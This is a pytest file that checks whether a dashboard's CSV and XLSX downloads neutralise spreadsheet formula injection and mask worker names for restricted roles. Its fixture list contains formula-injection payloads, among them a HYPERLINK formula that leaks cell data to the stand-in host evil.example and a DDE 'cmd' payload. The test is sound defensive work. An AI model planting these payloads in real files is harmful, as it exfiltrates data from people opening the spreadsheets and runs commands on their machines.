"""Formulas in downloads: a name or team that a spreadsheet would run stays inert text in
every CSV and XLSX a person downloads, and names are masked as the role sees them."""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest

from dashboard.access.privacy import release
from dashboard.access.scope import OPERATOR, Scope
from dashboard.ui.downloads import csv_bytes, xlsx_bytes

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klick")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "https://evil.example/link",
]


def _frame() -> pd.DataFrame:
    return pd.DataFrame({"worker": ATTACKS, "team": ATTACKS, "tickets": range(len(ATTACKS))})


@pytest.mark.parametrize("scope", [OPERATOR, Scope(role="controlling", key=b"k" * 32)],
                         ids=["names", "pseudonyms"])  # fmt: skip
def test_no_downloaded_cell_is_a_formula(scope):
    frame = release(_frame(), scope, target="file")
    text = csv_bytes(frame).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) == len(ATTACKS) + 1
    for row in rows[1:]:
        for cell in row[:2]:  # worker and team: text a spreadsheet would run, defused
            assert cell.startswith("'") or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(frame))) as workbook:
        sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
        names = workbook.namelist()
    assert "<f>" not in sheet  # no formula cell at all
    assert not [n for n in names if "hyperlink" in n.lower()]
    assert "<hyperlink" not in sheet
    if scope.role == "controlling":  # worker names masked before they are written
        assert all(row[0].startswith("MA-") for row in rows[1:])


def test_numbers_stay_numbers():
    frame = release(pd.DataFrame({"tickets": [-3, 5], "rate": [-0.5, 0.25]}), OPERATOR,
                    target="file")  # fmt: skip
    assert frame["tickets"].tolist() == [-3, 5] and frame["rate"].tolist() == [-0.5, 0.25]
